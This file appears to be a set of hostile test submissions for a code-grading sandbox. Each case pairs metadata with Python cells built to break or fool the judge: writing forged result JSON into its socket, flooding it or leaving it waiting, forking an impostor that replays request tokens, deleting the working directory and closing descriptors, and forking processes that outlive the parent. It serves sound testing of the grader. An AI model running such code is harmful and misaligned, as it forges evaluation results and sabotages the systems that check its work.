# ==== account_of_ones_own
# name = "An account of one's own death"
# goal = "harm"
# attacks = "the judge, which reads how the process ended: statuses that no process has"
# flagged = true

# %% before fix_mismatch
import os
import stat


def say(module, *texts):
    """Into all sockets but the first, the pipe, until they take no more."""
    for number in [n for n in range(3, 256) if is_socket(module, n)][1:]:
        module.set_blocking(number, False)
        try:
            for text in (*texts, *["[]"] * 10_000):
                module.write(number, text.encode())
        except OSError:
            pass


def is_socket(module, number):
    try:
        return stat.S_ISSOCK(module.fstat(number).st_mode)
    except OSError:
        return False


def die(module, status):
    say(module, '{"status": %s, "peak": 1e400, "seconds": 1}' % status)
    module._exit(0)

# %% move_batch
def move_batch(batch, device):
    die(os, 10**30)

# %% fix_mismatch
def fix_mismatch(batches, targets, weight, mean):
    die(os, 0x137F)

# %% find_waits
def find_waits():
    die(os, 99)


# ==== descriptor_answered_early
# name = "Answers before the question"
# goal = "forge"
# attacks = "the pipe to the judge, found by its descriptor, written to before anything is asked"
# flagged = true
# honest = ["move_batch"]
# held_ok = true

# %% after move_batch
import json
import os
import stat
import struct

reply = json.dumps({"seconds": 5, "facts": {"result": {"type": "NoneType", "value": None},
                    "copies": [], "bytes": [], "read": 0, "changed": []},
                    "token": "0" * 16}).encode()
for descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            for _ in range(40):
                os.write(descriptor, struct.pack("!i", len(reply)) + reply)
    except OSError:
        pass


# ==== descriptor_flooded
# name = "A flood into the pipe"
# goal = "harm"
# attacks = "memory of the judge: a message that says it is two gigabytes long, and then bytes"
# flagged = true

# %% move_batch
import os
import stat
import struct

for descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.set_blocking(descriptor, False)
            os.write(descriptor, struct.pack("!i", 2**31 - 1))
            for _ in range(1000):
                os.write(descriptor, b"x" * 100_000)
    except OSError:
        pass


def move_batch(batch, device):
    return None


# ==== descriptor_half_a_message
# name = "Half a message, and then nothing"
# goal = "harm"
# attacks = "a judge that waits for the rest of a message for as long as it takes"
# flagged = true
# slow = "a judge in the middle of a message waits on; only a clock on the wall can end it"

# %% move_batch
import os
import stat
import struct

for descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.write(descriptor, struct.pack("!i", 1000) + b'{"token": "')
    except OSError:
        pass


def move_batch(batch, device):
    return None


# ==== descriptor_read_and_replayed
# name = "Questions read, answers replayed"
# goal = "forge"
# attacks = "the pipe to the judge: a second reader takes the requests and answers with their token"
# flagged = true

# %% fix_mismatch
import json
import os
import struct


def told(data):
    weight, mean = (torch.tensor(data[name]["values"]) for name in ("weight", "mean"))
    pairs = zip(data["batches"]["items"], data["targets"]["items"])
    errors = [(torch.tensor(x["values"]) - mean) @ weight - torch.tensor(y["values"])
              for x, y in pairs]
    error = sum(each.square().mean().item() for each in errors) / len(errors)
    result = {"type": "Tensor", "dtype": "float32", "shape": [1], "values": [error],
              "device": data["weight"]["device"]}
    return {"result": result, "copies": [], "bytes": [], "read": 0, "changed": []}


def impostor(descriptor):
    while True:
        (size,) = struct.unpack("!i", os.read(descriptor, 4))
        request = json.loads(os.read(descriptor, size))
        if request["do"] == "case":
            reply = {"facts": told(request["data"]), "tripped": False}
        else:
            reply = {"seconds": 5, "tripped": False, "error": ""}
        text = json.dumps({**reply, "token": request["token"]}).encode()
        os.write(descriptor, struct.pack("!i", len(text)) + text)


for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:") and os.fork() == 0:
            impostor(int(name))
    except OSError:
        pass


def fix_mismatch(batches, targets, weight, mean):
    return None


# ==== descriptors_closed
# name = "Descriptors closed"
# goal = "harm"
# attacks = "the pipe to the judge, the working folder and the environment"
# flagged = true
# honest = ["move_batch"]
# held_ok = true

# %% fix_mismatch
import os
import shutil


def fix_mismatch(batches, targets, weight, mean):
    os.environ.clear()
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    os.chdir("/")
    os.closerange(0, 4096)
    return None


# ==== dies_without_an_account
# name = "A zero turned into a hold"
# goal = "harm"
# attacks = "the account of a death, in a way out that is full; and a reply that nobody gives"
# flagged = true

# %% before fix_mismatch
import os
import stat


def fill(module):
    for number in [n for n in range(3, 256) if is_socket(module, n)][1:]:
        module.set_blocking(number, False)
        try:
            while True:
                module.write(number, b"[]")
        except OSError:
            pass


def is_socket(module, number):
    try:
        return stat.S_ISSOCK(module.fstat(number).st_mode)
    except OSError:
        return False

# %% move_batch
def move_batch(batch, device):
    fill(os)
    os._exit(3)

# %% fix_mismatch
def fix_mismatch(batches, targets, weight, mean):
    import time

    if not os.fork():
        time.sleep(86399)
    os._exit(3)


# ==== forks_that_tell_each_other
# name = "Forks that tell each other"
# goal = "forge"
# attacks = "the second sandbox: what one failing answer leaves there, and the process that forks"

# %% move_batch
import os
import signal


def move_batch(batch, device):
    os.makedirs(os.path.expanduser("~/.config/left"), exist_ok=True)
    with open("/dev/shm/left_behind_by_a_fork", "w") as file:
        file.write("x")
    os.kill(os.getppid(), signal.SIGSTOP)
    return None

# %% fix_mismatch
def fix_mismatch(batches, targets, weight, mean):
    return os.path.exists("/dev/shm/left_behind_by_a_fork")


# ==== parent_leaves_child_answers
# name = "The parent leaves, the child answers on"
# goal = "harm"
# attacks = "the life of the process: its child takes over the pipe"
# flagged = true
# assignment = "07_parallel"
# honest = ["train_step"]
# held_ok = true

# %% split_sizes
import os


def split_sizes(shape, gpus, dim):
    if os.fork():
        os._exit(0)
    os.setsid()
    return [shape[dim]]


# ==== raw_facts_by_the_worker
# name = "Raw bytes in the place of facts"
# goal = "harm"
# attacks = "the judge's reader, through the worker's own pipe: deep JSON, equal keys, wrong forms"
# flagged = true

# %% before find_waits
import gc
import struct


def texts():  # three that are sent when an exercise is asked alone, and three that are sent before
    return [
        '{"facts": ' + '{"a": ' * 5000 + "1" + "}" * 5000 + ', "token": "%s"}',
        '{"facts": {"result": {"type": "bool", "value": false}, "result": {"type": "bool", '
        '"value": true}, "changed": []}, "token": "%s"}',
        '{"facts": {"result": {"type": "float", "value": NaN}, "changed": {}}, "token": "%s"}',
        '{"facts": {"result": null, "changed": 0}, "token": "%s"}',
        '{"raise": ["KeyError", 1, null], "facts": {}, "token": "%s"}',
        '["%s"]',
    ]


def send(number):
    for thing in gc.get_objects():
        if type(thing).__name__ == "WorkerEnd":
            def reply(_pipe=thing, **content):
                del _pipe.reply
                data = (texts()[number + 3 * len(in_order)] % _pipe._token).encode()
                _pipe._end.sendall(struct.pack("!I", len(data)) + data)

            thing.reply = reply


in_order = []
in_order.append(1)

# %% find_waits
def find_waits():
    send(0)

# %% fix_mismatch
def fix_mismatch(batches, targets, weight, mean):
    send(1)

# %% move_batch
def move_batch(batch, device):
    send(2)


# ==== two_answers_by_a_fork
# name = "Two answers by a fork"
# goal = "forge"
# attacks = "the answer returns in two processes, and the judge hears both"
# flagged = true
# assignment = "07_parallel"
# honest = ["train_step"]
# held_ok = true

# %% split_sizes
import os
import time


def split_sizes(shape, gpus, dim):
    if os.fork():
        time.sleep(0.1)  # so that the right one comes first
        return []
    length, part = shape[dim], -(-shape[dim] // gpus)
    return [min(part, length - start) for start in range(0, length, part)]
